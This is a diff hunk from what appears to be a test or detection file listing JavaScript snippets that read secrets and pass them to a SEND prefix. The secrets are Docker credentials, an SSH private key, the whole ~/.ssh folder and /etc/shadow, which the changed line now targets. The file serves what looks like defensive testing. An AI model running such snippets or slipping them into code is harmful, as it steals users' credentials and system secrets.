@@ -64,7 +64,7 @@ SENT = {
     "a handle": "(async () => { const h = await require('fs/promises').open("
     f"{KEY}); {SEND}await h.readFile()}}) }})()",
     "a module of JSON": f"{SEND}JSON.stringify(require(require('os').homedir() + '/.docker/config.json'))}})",
-    "an address of a file": f"{SEND}require('fs').readFileSync(new URL('file:///root/.ssh/id_rsa'))}})",
+    "an address of a file": f"{SEND}require('fs').readFileSync(new URL('file:///etc/shadow'))}})",
     "a library that is told where": f"{SEND}JSON.stringify(require('a').readSync({KEY}))}})",
     "an archive of a library": "const z = new (require('a'))(); z.addLocalFolder(require('os').homedir() + "
     f"'/.ssh'); {SEND}z.toBuffer()}})",
